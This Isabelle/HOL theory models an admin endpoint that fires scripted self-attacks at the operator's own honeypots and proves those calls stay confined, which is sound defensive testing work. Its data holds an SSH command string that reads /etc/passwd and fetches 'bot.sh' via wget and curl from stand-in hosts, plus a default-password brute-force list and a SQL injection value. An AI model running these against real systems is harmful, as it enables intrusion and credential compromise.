(* ===== verification/Honeypot_Triggers.thy ===== *)
theory Honeypot_Triggers
  imports Credentials Json
begin

text \<open>
  The administrator's self-attacks (\<open>backend/app/services/honeypot_triggers.py\<close>) and the endpoint
  that fires them (\<open>api/v1/endpoints/diagnostics.py\<close>): a trigger id selects one of six fixed
  sequences of network calls against the operator's own honeypot ports.

  Arguments: the environment variables, what the network answers to the calls of a run in their order, and
  the call during which the thirty seconds end. The milliseconds of a connection are part of its reply_to.
\<close>

section \<open>Where the calls go\<close>

record trigger_env =
  tg_host :: string
  tg_ports :: "(string \<times> int) list"

definition PORT_VARIABLES :: "(string \<times> string \<times> string) list" where
  "PORT_VARIABLES =
     [(''ssh'', ''HONEYPOT_SSH_PORT'', ''2222''), (''telnet'', ''HONEYPOT_TELNET_PORT'', ''2223''),
      (''smb'', ''HONEYPOT_SMB_PORT'', ''445''), (''ftp'', ''HONEYPOT_FTP_PORT'', ''2121''),
      (''mssql'', ''HONEYPOT_MSSQL_PORT'', ''1433''), (''ht1'', ''HONEYPOT_HTTP_PORT'', ''8022''),
      (''ht2'', ''HONEYPOT_ALT_PORT'', ''8023'')]"

text \<open>Reading the environment when the module is loaded; \<open>None\<close> is the exception of \<open>int\<close>.\<close>

fun read_ports :: "(string \<Rightarrow> string option) \<Rightarrow> (string \<times> string \<times> string) list \<Rightarrow> (string \<times> int) list option" where
  "read_ports envvar [] = Some []"
| "read_ports envvar ((name, var, d) # vs) =
     (case int_of_str (case envvar var of Some v \<Rightarrow> v | None \<Rightarrow> d) of
        None \<Rightarrow> None | Some p \<Rightarrow> map_option (Cons (name, p)) (read_ports envvar vs))"

definition load_triggers :: "(string \<Rightarrow> string option) \<Rightarrow> trigger_env option" where
  "load_triggers envvar = map_option (\<lambda>ports.
     \<lparr>tg_host = (case envvar ''HONEYPOT_TRIGGER_HOST'' of Some h \<Rightarrow> h | None \<Rightarrow> ''host.docker.internal''), tg_ports = ports\<rparr>)
     (read_ports envvar PORT_VARIABLES)"

definition port_named :: "trigger_env \<Rightarrow> string \<Rightarrow> int" where
  "port_named env name = the (map_of (tg_ports env) name)"

datatype net_call =
    Tcp_connect (call_host: string) (call_port: int)
  | Ssh_login (call_host: string) (call_port: int) string string "string option"
  | Http_get (call_host: string) (call_port: int) "(string \<times> string) list"

datatype net_outcome = Net_ok json | Net_denied | Net_error string

section \<open>The triggers\<close>

definition SSH_COMMANDS :: string where
  "SSH_COMMANDS = ''whoami; id; uname -a; cat /etc/passwd; ps aux; '' @ ''wget http://185.99.1.7/bot.sh; curl http://evil.test/x; ls -la /tmp''"

definition SSH_COMBOS :: "(string \<times> string) list" where
  "SSH_COMBOS = [(''root'', ''root''), (''root'', ''123456''), (''root'', ''password''), (''root'', ''admin''),
     (''admin'', ''admin''), (''admin'', ''123456''), (''oracle'', ''guess''), (''pi'', ''raspberry'')]"

definition SQLI_PARAMS :: "(string \<times> string) list" where
  "SQLI_PARAMS = [(''id'', ''1'' @ [CHR 0x27] @ '' OR '' @ [CHR 0x27] @ ''1'' @ [CHR 0x27] @ ''='' @ [CHR 0x27] @ ''1'')]"

text \<open>The calls of a trigger, in order.\<close>

definition trigger_calls :: "trigger_env \<Rightarrow> string \<Rightarrow> net_call list option" where
  "trigger_calls env trigger = (let h = tg_host env; p = port_named env in map_of
     [(''ssh_session'', [Ssh_login h (p ''ssh'') ''root'' ''hunter2'' (Some SSH_COMMANDS)]),
      (''ssh_bruteforce'', map (\<lambda>(u, pw). Ssh_login h (p ''ssh'') u pw None) SSH_COMBOS),
      (''telnet'', [Tcp_connect h (p ''telnet'')]),
      (''dionaea'', [Tcp_connect h (p ''smb''), Tcp_connect h (p ''ftp''), Tcp_connect h (p ''mssql'')]),
      (''honeytrap'', [Http_get h (p ''ht1'') [], Http_get h (p ''ht2'') SQLI_PARAMS]),
      (''port_sweep'', map (\<lambda>(name, port). Tcp_connect h port) (tg_ports env))] trigger)"

definition TRIGGER_LABELS :: "(string \<times> string) list" where
  "TRIGGER_LABELS =
     [(''ssh_session'', ''Cowrie SSH - full session (best data)''), (''ssh_bruteforce'', ''Cowrie SSH - 8 brute-force attempts''),
      (''telnet'', ''Cowrie Telnet - connect''), (''dionaea'', ''Dionaea - SMB / FTP / MSSQL connect''),
      (''honeytrap'', ''Honeytrap - HTTP + SQLi-looking request''), (''port_sweep'', ''Full port sweep - every sensor'')]"

definition list_triggers :: "jdict list" where
  "list_triggers = map (\<lambda>(k, label). [(''id'', JStr k), (''label'', JStr label)]) TRIGGER_LABELS"

text \<open>What is reported of one call.\<close>

definition call_report :: "net_call \<Rightarrow> net_outcome \<Rightarrow> jdict" where
  "call_report c out =
     (case c of
        Tcp_connect _ port \<Rightarrow> (case out of
            Net_ok ms \<Rightarrow> [(''ok'', JBool True), (''port'', JInt port), (''ms'', ms)]
          | Net_denied \<Rightarrow> [(''ok'', JBool False), (''port'', JInt port), (''error'', JStr [])]
          | Net_error e \<Rightarrow> [(''ok'', JBool False), (''port'', JInt port), (''error'', JStr e)])
      | Ssh_login _ _ user _ cmds \<Rightarrow> (case out of
            Net_ok text_out \<Rightarrow> [(''ok'', JBool True), (''user'', JStr user), (''authenticated'', JBool True),
              (''output'', case cmds of None \<Rightarrow> JNull | Some _ \<Rightarrow> (case text_out of JStr t \<Rightarrow> JStr (take 4000 t) | _ \<Rightarrow> text_out))]
          | Net_denied \<Rightarrow> [(''ok'', JBool True), (''user'', JStr user), (''authenticated'', JBool False)]
          | Net_error e \<Rightarrow> [(''ok'', JBool False), (''user'', JStr user), (''error'', JStr e)])
      | Http_get _ _ _ \<Rightarrow> (case out of
            Net_ok status \<Rightarrow> [(''ok'', JBool True), (''status_code'', status)]
          | Net_denied \<Rightarrow> [(''ok'', JBool False), (''error'', JStr [])]
          | Net_error e \<Rightarrow> [(''ok'', JBool False), (''error'', JStr e)]))"

definition named_reports :: "string list \<Rightarrow> jdict list \<Rightarrow> json" where
  "named_reports names reports_of = JObj (zip names (map JObj reports_of))"

definition trigger_result :: "trigger_env \<Rightarrow> string \<Rightarrow> jdict list \<Rightarrow> jdict" where
  "trigger_result env trigger rs =
     (if trigger = ''ssh_session'' then hd rs
      else if trigger = ''ssh_bruteforce'' then [(''ok'', JBool True), (''attempts'', JList (map JObj rs))]
      else if trigger = ''telnet'' then [(''ok'', JBool True), (''telnet'', JObj (hd rs))]
      else (''ok'', JBool True) # [(''results'', named_reports
        (if trigger = ''dionaea'' then [''smb'', ''ftp'', ''mssql''] else if trigger = ''honeytrap'' then [''ht1'', ''ht2'']
         else map fst (tg_ports env)) rs)])"

text \<open>One run: the reply, and the calls that went out. \<open>over\<close> is the call during which the time is over.\<close>

definition run_trigger :: "trigger_env \<Rightarrow> (nat \<Rightarrow> net_call \<Rightarrow> net_outcome) \<Rightarrow> nat option \<Rightarrow> string \<Rightarrow> jdict \<times> net_call list" where
  "run_trigger env reply_to over trigger =
     (case trigger_calls env trigger of
        None \<Rightarrow> ([(''ok'', JBool False), (''trigger'', JStr trigger),
                  (''error'', JStr (''unknown trigger '' @ [CHR 0x27] @ trigger @ [CHR 0x27]))], [])
      | Some calls \<Rightarrow>
          (case over of
             Some k \<Rightarrow> ([(''ok'', JBool False), (''trigger'', JStr trigger), (''error'', JStr ''timed out'')], take (Suc k) calls)
           | None \<Rightarrow> ([(''ok'', JBool True), (''trigger'', JStr trigger), (''host'', JStr (tg_host env)),
                 (''result'', JObj (trigger_result env trigger (map (\<lambda>(n, c). call_report c (reply_to n c)) (enumerate 0 calls))))], calls)))"

definition trigger_honeypot :: "trigger_env \<Rightarrow> identity_env \<Rightarrow> time \<Rightarrow> caller \<Rightarrow> identity_db
    \<Rightarrow> (nat \<Rightarrow> net_call \<Rightarrow> net_outcome) \<Rightarrow> nat option \<Rightarrow> string \<Rightarrow> (http_error + jdict) \<times> net_call list" where
  "trigger_honeypot env ident now who idb reply_to over trigger =
     (case fst (require_role ident now [''ADMIN''] who idb) of
        Inl e \<Rightarrow> (Inl e, [])
      | Inr _ \<Rightarrow> (case run_trigger env reply_to over trigger of (d, calls) \<Rightarrow> (Inr d, calls)))"

section \<open>Confinement\<close>

lemma loaded_ports: "read_ports envvar vs = Some ports \<Longrightarrow> map fst ports = map fst vs"
  by (induction envvar vs arbitrary: ports rule: read_ports.induct) (auto split: option.splits)

definition own_sensor :: "trigger_env \<Rightarrow> net_call \<Rightarrow> bool" where
  "own_sensor env c \<longleftrightarrow> call_host c = tg_host env \<and> call_port c \<in> set (map snd (tg_ports env))"

text \<open>The texts that may be sent, whatever the caller asks for.\<close>

definition scripted :: "net_call \<Rightarrow> bool" where
  "scripted c = (case c of
       Tcp_connect _ _ \<Rightarrow> True
     | Ssh_login _ _ u pw cmds \<Rightarrow> (u, pw) \<in> set ((''root'', ''hunter2'') # SSH_COMBOS) \<and> cmds \<in> {None, Some SSH_COMMANDS}
     | Http_get _ _ params \<Rightarrow> params \<in> {[], SQLI_PARAMS})"

lemma ports_known:
  assumes "load_triggers envvar = Some env" and "name \<in> fst ` set PORT_VARIABLES"
  shows "port_named env name \<in> set (map snd (tg_ports env))"
proof -
  obtain ports where p: "read_ports envvar PORT_VARIABLES = Some ports" "tg_ports env = ports"
    using assms(1) by (auto simp: load_triggers_def)
  then have "name \<in> fst ` set (tg_ports env)" using assms(2) loaded_ports[OF p(1)] by (metis list.set_map)
  then obtain q where "map_of (tg_ports env) name = Some q" by (metis map_of_eq_None_iff not_None_eq)
  then show ?thesis by (auto simp: port_named_def dest: map_of_SomeD intro: rev_image_eqI)
qed

lemma calls_confined:
  assumes "load_triggers envvar = Some env" and "trigger_calls env trigger = Some calls"
  shows "list_all (\<lambda>c. own_sensor env c \<and> scripted c) calls"
proof -
  have p: "port_named env n \<in> snd ` set (tg_ports env)" if "n \<in> {''ssh'', ''telnet'', ''smb'', ''ftp'', ''mssql'', ''ht1'', ''ht2''}" for n
    using ports_known[OF assms(1), of n] that by (auto simp: PORT_VARIABLES_def)
  have sweep: "list_all (\<lambda>c. own_sensor env c \<and> scripted c) (map (\<lambda>(name, port). Tcp_connect (tg_host env) port) (tg_ports env))"
    by (auto simp: list_all_iff own_sensor_def scripted_def intro: rev_image_eqI)
  have ssh: "port_named env ''ssh'' \<in> snd ` set (tg_ports env)" by (rule p) simp
  have brute: "list_all (\<lambda>c. own_sensor env c \<and> scripted c) (map (\<lambda>(u, pw). Ssh_login (tg_host env) (port_named env ''ssh'') u pw None) SSH_COMBOS)"
    by (simp add: list_all_iff own_sensor_def scripted_def ssh split_beta)
  have ports: "port_named env ''telnet'' \<in> snd ` set (tg_ports env)" "port_named env ''smb'' \<in> snd ` set (tg_ports env)"
    "port_named env ''ftp'' \<in> snd ` set (tg_ports env)" "port_named env ''mssql'' \<in> snd ` set (tg_ports env)"
    "port_named env ''ht1'' \<in> snd ` set (tg_ports env)" "port_named env ''ht2'' \<in> snd ` set (tg_ports env)"
    by (rule p; simp)+
  from assms(2) have "(trigger, calls) \<in> set
     [(''ssh_session'', [Ssh_login (tg_host env) (port_named env ''ssh'') ''root'' ''hunter2'' (Some SSH_COMMANDS)]),
      (''ssh_bruteforce'', map (\<lambda>(u, pw). Ssh_login (tg_host env) (port_named env ''ssh'') u pw None) SSH_COMBOS),
      (''telnet'', [Tcp_connect (tg_host env) (port_named env ''telnet'')]),
      (''dionaea'', [Tcp_connect (tg_host env) (port_named env ''smb''), Tcp_connect (tg_host env) (port_named env ''ftp''),
         Tcp_connect (tg_host env) (port_named env ''mssql'')]),
      (''honeytrap'', [Http_get (tg_host env) (port_named env ''ht1'') [], Http_get (tg_host env) (port_named env ''ht2'') SQLI_PARAMS]),
      (''port_sweep'', map (\<lambda>(name, port). Tcp_connect (tg_host env) port) (tg_ports env))]"
    unfolding trigger_calls_def Let_def by (rule map_of_SomeD)
  then consider "calls = [Ssh_login (tg_host env) (port_named env ''ssh'') ''root'' ''hunter2'' (Some SSH_COMMANDS)]"
    | "calls = map (\<lambda>(u, pw). Ssh_login (tg_host env) (port_named env ''ssh'') u pw None) SSH_COMBOS"
    | "calls = [Tcp_connect (tg_host env) (port_named env ''telnet'')]"
    | "calls = [Tcp_connect (tg_host env) (port_named env ''smb''), Tcp_connect (tg_host env) (port_named env ''ftp''),
         Tcp_connect (tg_host env) (port_named env ''mssql'')]"
    | "calls = [Http_get (tg_host env) (port_named env ''ht1'') [], Http_get (tg_host env) (port_named env ''ht2'') SQLI_PARAMS]"
    | "calls = map (\<lambda>(name, port). Tcp_connect (tg_host env) port) (tg_ports env)"
    by (simp only: list.set insert_iff empty_iff prod.inject) blast
  then show ?thesis
    by cases (use sweep brute ssh ports in \<open>simp_all add: own_sensor_def scripted_def\<close>)
qed

text \<open>C25. Whatever trigger id is posted by whomever, whatever the network answers and whenever the time is over: every
  call goes to the configured host and one of the configured sensor ports and carries only scripted texts, and
  an unknown id or a caller who is no administrator causes no call at all.\<close>

theorem triggers_stay_on_script:
  assumes "load_triggers envvar = Some env"
  shows "list_all (\<lambda>c. own_sensor env c \<and> scripted c) (snd (trigger_honeypot env ident now who idb reply_to over trigger))
     \<and> (snd (trigger_honeypot env ident now who idb reply_to over trigger) = []
        \<or> trigger \<in> set (map fst TRIGGER_LABELS) \<and> \<not> isl (fst (require_role ident now [''ADMIN''] who idb)))"
proof -
  have known: "trigger \<in> set (map fst TRIGGER_LABELS)" if "trigger_calls env trigger = Some calls" for calls
    using that by (auto simp: trigger_calls_def TRIGGER_LABELS_def Let_def split: if_splits)
  have part: "list_all P calls \<Longrightarrow> list_all P (take k calls)" for P :: "net_call \<Rightarrow> bool" and k calls
    by (auto simp: list_all_iff dest: in_set_takeD)
  show ?thesis
  proof (cases "fst (require_role ident now [''ADMIN''] who idb)")
    case (Inr u)
    then show ?thesis
      using calls_confined[OF assms, of trigger] known part
      by (auto simp: trigger_honeypot_def run_trigger_def split: option.split)
  qed (simp add: trigger_honeypot_def)
qed

text \<open>A sweep that reaches nothing is reported as ok.\<close>

lemma unreachable_sensors_read_ok:
  assumes "trigger \<in> {''ssh_bruteforce'', ''telnet'', ''dionaea'', ''honeytrap'', ''port_sweep''}"
  shows "\<exists>d calls. run_trigger env (\<lambda>_ _. Net_error ''refused'') None trigger = ((''ok'', JBool True) # d, calls)
    \<and> dict_get ''ok'' (trigger_result env trigger (map (\<lambda>(n, c). call_report c (Net_error ''refused'')) (enumerate 0 calls))) = JBool True"
  using assms by (auto simp: run_trigger_def trigger_calls_def trigger_result_def Let_def)

section \<open>A witness\<close>

theorem triggers_stay_on_script_witness:
  "\<exists>env. load_triggers (\<lambda>_. None) = Some env
     \<and> list_all (\<lambda>c. own_sensor env c \<and> scripted c)
         (snd (trigger_honeypot env demo_identity 0 (''boss'', [], []) demo_identities (\<lambda>_ _. Net_denied) None ''telnet''))"
proof -
  obtain env where env: "load_triggers (\<lambda>_. None) = Some env"
    by (simp add: load_triggers_def PORT_VARIABLES_def int_of_str_def strip_def is_space_def is_digit_def)
  from triggers_stay_on_script[OF env, of demo_identity 0 "(''boss'', [], [])" demo_identities "\<lambda>_ _. Net_denied" None "''telnet''"] env
  show ?thesis by blast
qed

end
